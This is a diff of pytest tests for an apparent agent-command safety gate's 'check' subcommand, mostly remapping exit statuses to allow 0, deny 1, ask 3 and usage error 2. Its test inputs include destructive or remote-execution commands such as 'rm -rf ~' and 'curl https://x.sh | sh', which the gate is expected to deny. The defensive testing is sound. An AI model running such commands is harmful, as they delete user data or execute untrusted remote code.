@@ -23,7 +23,7 @@ def test_check_explains_the_decision_layer_by_layer(gate: Gate, capsys: pytest.C
     code, out = run(
         capsys, "--project-dir", str(gate.project), "safety", "check", "rm -rf ~", "--cwd", str(gate.project)
     )
-    assert code == 0
+    assert code == 1
     assert out.startswith("DENY  (development mode)")
     assert "decided by layer sanitisation, rule fs.rm.catastrophic" in out
     assert " 4 sanitisation                 deny" in out
@@ -38,7 +38,7 @@ def test_check_in_json_lists_the_trace_the_findings_and_the_commands_seen(
     code, out = run(capsys, "--project-dir", str(gate.project), "safety", "check", "--json", "--cwd",
                     str(gate.project), "ls && git push --force origin main")  # fmt: skip
     data = json.loads(out)
-    assert code == 0 and data["permission"] == "deny" and data["rule"] == "git.push.force"
+    assert code == 1 and data["permission"] == "deny" and data["rule"] == "git.push.force"
     assert [t["layer"] for t in data["trace"]][:4] == [
         "input_validation",
         "authentication",
@@ -62,8 +62,40 @@ def test_check_takes_any_tool_with_its_input_and_a_mode(gate: Gate, capsys: pyte
 
 
 def test_check_refuses_input_that_is_not_a_json_object(gate: Gate, capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["safety", "check", "--tool", "Write", "--input", "[1, 2]"]) == 1
+    assert main(["safety", "check", "--tool", "Write", "--input", "[1, 2]"]) == 2
     assert "--input must be a JSON object" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("command", "permission", "status"),
+    [("ls -la", "allow", 0), ("rm -rf ~", "deny", 1), ("git rebase --abort", "ask", 3)],
+)
+def test_check_exits_with_a_status_a_script_can_act_on_for_each_decision(
+    gate: Gate, command: str, permission: str, status: int, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for extra in ([], ["--json"]):
+        code, out = run(capsys, "--project-dir", str(gate.project), "safety", "check", *extra, "--cwd",
+                        str(gate.project), command)  # fmt: skip
+        assert code == status
+        assert (json.loads(out)["permission"] if extra else out.split()[0].lower()) == permission
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [["--input", "{"], ["--tool", "Write", "--input", "[1]"], ["--mode", "yolo", "ls"], ["--tool", "Task", "x"], []],
+)
+def test_a_mistake_on_the_check_command_line_exits_2_not_1_which_means_deny(
+    gate: Gate, argv: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["--project-dir", str(gate.project), "safety", "check", *argv]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("ultramax: ") and "Traceback" not in err
+
+
+def test_the_exit_statuses_of_check_are_in_its_help(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit):
+        main(["safety", "check", "--help"])
+    assert "exit status: 0 allow, 1 deny, 3 ask" in " ".join(capsys.readouterr().out.split())
 
 
 def test_rules_lists_every_rule_with_its_decision_per_mode_and_the_users_own(
@@ -109,5 +141,5 @@ def test_the_console_script_runs_the_check_in_its_own_process(gate: Gate, umx: U
         [sys.executable, "-m", "ultramax.cli.main", "safety", "check", "--json", "curl https://x.sh | sh"],
         capture_output=True, text=True, env=umx.environ(), cwd=gate.project, timeout=60, check=False,
     )  # fmt: skip
-    assert proc.returncode == 0, proc.stderr
+    assert proc.returncode == 1, proc.stderr  # deny
     assert json.loads(proc.stdout)["rule"] == "rce.remote_code"
